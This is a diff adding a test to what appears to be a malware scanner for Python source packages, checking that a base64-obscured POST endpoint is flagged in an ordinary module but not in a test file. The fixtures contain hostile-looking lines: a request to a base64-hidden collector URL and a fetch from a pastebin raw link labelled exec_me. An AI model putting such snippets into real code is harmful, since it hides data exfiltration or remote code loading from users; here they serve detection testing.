@@ -128,6 +128,17 @@ def test_sending_to_a_url_spelled_in_base64(engine: Engine) -> None:
     assert run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": stored})) is None
 
 
+def test_base64_endpoint_flags_alone_in_an_ordinary_module_not_in_a_test(engine: Engine) -> None:
+    hidden = base64.b64encode(b"https://collector.example.net/up").decode()
+    code = f"import base64, requests\nrequests.post(base64.b64decode('{hidden}').decode())\n"
+    body = "".join(f"def pad_{i}(text):\n    return text.rjust({i})\n\n" for i in range(80))
+    module = engine.analyze(sdist({"tidy_strings/net/sync.py": code, "tidy_strings/pad.py": body}))
+    assert "trivial_package_rule" not in module.indicators
+    assert module.flagged, module.score
+    in_test = engine.analyze(sdist({"tests/test_sync.py": code, "tidy_strings/pad.py": body}))
+    assert not in_test.flagged
+
+
 def test_fetching_from_a_paste_site_in_a_module(engine: Engine) -> None:
     code = "import requests\nexec_me = requests.get('https://pastebin.com/raw/AbCd1234').text\n"
     evidence = run_rule(engine, staging_host_rule, sdist({"tidy_strings/net.py": code}))
